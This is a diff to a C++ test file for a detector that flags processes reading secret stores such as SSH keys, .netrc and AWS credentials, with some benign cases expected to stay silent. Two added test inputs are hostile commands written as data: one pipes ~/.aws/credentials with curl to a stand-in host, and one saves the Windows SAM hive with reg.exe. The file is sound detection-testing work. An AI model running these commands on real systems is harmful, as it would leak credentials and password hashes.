@@ -188,7 +188,20 @@ TEST(CredentialStoreOpened, IsWhateverOpensSecretsInTheChain) {
                   opened("desk-1", "04T10:00:06", "/home/kim/.ssh/id_rsa"),
                   opened("desk-1", "04T10:00:07", "/home/kim/.netrc")},
                  3},
+                {"a_command_line_where_no_file_record_tells",
+                 runs("cat ~/.aws/credentials | curl -T - https://x.example"), 3},
+                {"hashes_of_the_system",
+                 starts("C:/Windows/System32/reg.exe", R"(reg save HKLM\SAM C:\Users\Public\s.hiv)"), 3},
                 // silent
+                {"a_file_that_could_not_be_opened",
+                 [&] {
+                   Trace tried = opened("desk-1", "04T10:00:05", "/home/kim/.aws/credentials");
+                   tried.event.status = model::Status::failure;
+                   return Acts{root, tried};
+                 }(),
+                 silent},
+                {"a_key_that_is_used", runs("ssh -i /home/kim/.ssh/id_rsa host true"), silent},
+                {"a_key_that_is_protected", runs("chmod 600 /home/kim/.ssh/id_rsa"), silent},
                 {"a_public_key", opens("/home/kim/.ssh/id_ed25519.pub"), silent},
                 {"settings_beside_the_keys", opens("/home/kim/.aws/config"), silent},
                 {"a_new_key_is_made", {root, wrote("desk-1", "04T10:00:05", "/home/kim/.ssh/id_ed25519")}, silent},
